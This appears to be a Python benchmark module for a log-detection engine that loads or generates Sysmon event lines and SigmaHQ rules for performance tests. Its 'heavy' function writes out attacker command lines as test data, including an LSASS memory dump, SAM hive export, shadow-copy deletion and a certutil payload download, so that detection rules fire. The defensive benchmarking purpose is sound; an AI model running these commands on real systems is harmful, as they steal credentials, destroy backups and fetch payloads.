"""What the benchmarks run on: event lines and rules.

Lines are real ones where the shared data is (a folder ``shared`` beside the checkout, or
``CARENGINE_SHARED``), taken evenly from all its Mordor archives; elsewhere they are made up in the
same distribution (which channels, which event ids, which fields, how long). Four lanes:

* ``normal``: the lines as they are;
* ``heavy``: lines of process creations only, each made to match one of the rules' patterns;
* ``adversarial``: every text value of every line made unique, so that nothing that was remembered
  of one line helps with another;
* ``unseen``: the same, and other values in each turn, so that nothing helps that was ever
  remembered.

Rules are SigmaHQ's Windows rules, loaded as any user would load them (``carengine[sigma]``); where
the shared data is not there, the rules that carengine ships, which are also written as Sigma rules
for the peers.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import carengine
from carengine.rule import RuleSet

HERE = Path(__file__).resolve()


def shared() -> Path | None:
    """The folder of shared data; None where there is none, or where generated data is asked for."""
    if os.environ.get("CARENGINE_SHARED") == "none":
        return None
    for candidate in (
        os.environ.get("CARENGINE_SHARED", ""),
        HERE.parents[1].parent / "shared",
        HERE.parents[2].parent / "shared",
    ):
        if candidate and (Path(candidate) / "mordor").is_dir():
            return Path(candidate)
    return None


# Lines


def lines(wanted: int = 30_000) -> list[bytes]:
    """About this many event lines, each a JSON object."""
    folder = shared()
    return made_up(wanted) if folder is None else _real(folder / "mordor", wanted)


def _real(folder: Path, wanted: int) -> list[bytes]:
    step = max(1, 200_000 // wanted)
    found: list[bytes] = []
    for path in sorted(folder.glob("*.zip")):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.endswith(".json") and not name.startswith("__MACOSX"):
                    with archive.open(name) as stream:
                        found += itertools.islice(stream, 0, None, step)
    return [line.rstrip(b"\r\n") for line in found if line.startswith(b"{")]


_SHARES = (
    (10, 0.43, ("SourceImage", "TargetImage", "GrantedAccess", "CallTrace")),
    (12, 0.16, ("Image", "TargetObject", "EventType")),
    (13, 0.12, ("Image", "TargetObject", "Details", "EventType")),
    (7, 0.15, ("Image", "ImageLoaded", "Hashes", "Signed", "Signature")),
    (11, 0.05, ("Image", "TargetFilename")),
    (1, 0.04, ("Image", "CommandLine", "ParentImage", "ParentCommandLine", "User", "Hashes")),
    (3, 0.05, ("Image", "DestinationIp", "DestinationPort", "Initiated")),
)


def made_up(wanted: int, seed: int = 1) -> list[bytes]:
    """Made-up Sysmon lines, with the shares and sizes of real ones. The same for the same seed."""
    chance = random.Random(seed)
    names = [f"C:\\Windows\\System32\\{word}.exe" for word in _words(chance, 200)]
    found = []
    for number in range(wanted):
        event_id, _, fields = chance.choices(_SHARES, [share for _, share, _ in _SHARES])[0]
        event: dict[str, Any] = {
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": event_id,
            "RecordNumber": number,
            "Hostname": "WS1.example.org",
            "SourceName": "Microsoft-Windows-Sysmon",
            "Message": " ".join(_words(chance, 90)),
        }
        event |= {name: chance.choice(names) for name in fields}
        event["ProcessGuid"] = f"{{{chance.getrandbits(128):032x}}}"
        found.append(json.dumps(event).encode())
    return found


def _words(chance: random.Random, number: int) -> list[str]:
    return ["".join(chance.choices("abcdefghijklmnoprstuvwy", k=7)) for _ in range(number)]


def adversarial(plain: list[bytes], turn: int = 0) -> list[bytes]:
    """The lines with a number put into every text of 8 characters and more that is no channel or
    name.

    No two turns have a number in common.
    """
    counter = itertools.count((turn + 1) * 10**8)
    keep = ("Channel", "SourceName", "EventType", "SourceModuleName")

    def changed(event: dict[str, Any]) -> dict[str, Any]:
        return {
            key: f"{value[:-4]}{next(counter)}{value[-4:]}"
            if isinstance(value, str) and len(value) >= 8 and key not in keep
            else value
            for key, value in event.items()
        }

    return [json.dumps(changed(json.loads(line)), separators=(",", ":")).encode() for line in plain]


def heavy(plain: list[bytes]) -> list[bytes]:
    """The process creations, over and over, with command lines that rules look for."""
    texts = (
        "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
        "cmd.exe /c whoami /all & net user /domain & vssadmin delete shadows /all /quiet",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
        "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save",
        "certutil.exe -urlcache -split -f http://10.0.0.1/a.exe C:\\Users\\Public\\a.exe",
    )
    wanted = [
        event
        for event in map(json.loads, plain)
        if event.get("EventID") == 1 and "CommandLine" in event
    ]
    found = []
    while wanted and len(found) < len(plain) // 4:
        for event in wanted:
            text = texts[len(found) % len(texts)]
            image = "C:\\Windows\\System32\\" + text.split()[0]
            changed = event | {"CommandLine": text, "Image": image}
            found.append(json.dumps(changed, separators=(",", ":")).encode())
    return found


# Rules


def rules() -> tuple[RuleSet, str]:
    """The rules, and the name of the one shape of log that the lines have and these rules can read."""
    archive = sigma_archive()
    if archive is None:
        return carengine.load_rules(carengine.shipped_rules()), "sysmon.flat"
    return carengine.load_rules(archive), "windows.flat"


def sigma_archive() -> Path | None:
    """The archive of SigmaHQ's Windows rules; None where it is not there."""
    folder = shared()
    path = folder / "sigma" / "sigmahq-rules-windows.tar.gz" if folder else None
    return path if path and path.is_file() else None


def write_sigma_rules(folder: Path) -> tuple[int, list[str]]:
    """Put the rules into a folder as Sigma files, one a rule, named by its id.

    Gives their number, and for each rule that Sigma cannot say (of the shipped ones) a line with
    the reason.
    """
    folder.mkdir(parents=True, exist_ok=True)
    archive = sigma_archive()
    refused: list[str] = []
    number = 0
    if archive is None:
        texts = _translated(refused)
    else:
        texts = _unpacked(archive)
    for name, text in texts:
        (folder / f"{name}.yml").write_bytes(text)
        number += 1
    return number, refused


def _unpacked(archive: Path) -> Iterator[tuple[str, bytes]]:
    with tarfile.open(archive) as opened:
        for member in sorted(opened.getmembers(), key=lambda m: m.name):
            stream = opened.extractfile(member) if member.name.endswith(".yml") else None
            if stream is not None:
                yield Path(member.name).stem, stream.read()


def _translated(refused: list[str]) -> Iterator[tuple[str, bytes]]:
    for rule in carengine.load_rules(carengine.shipped_rules()):
        try:
            made = carengine.translate(rule, "sigma", "sysmon.flat")
        except carengine.CarError as error:
            refused.append(f"{rule.id}: {error.diagnostics[0].message}")
            continue
        # Several outputs are several documents; peers want a file each.
        for query in made.queries:
            yield f"{rule.id}.{query.output}", query.text.encode()
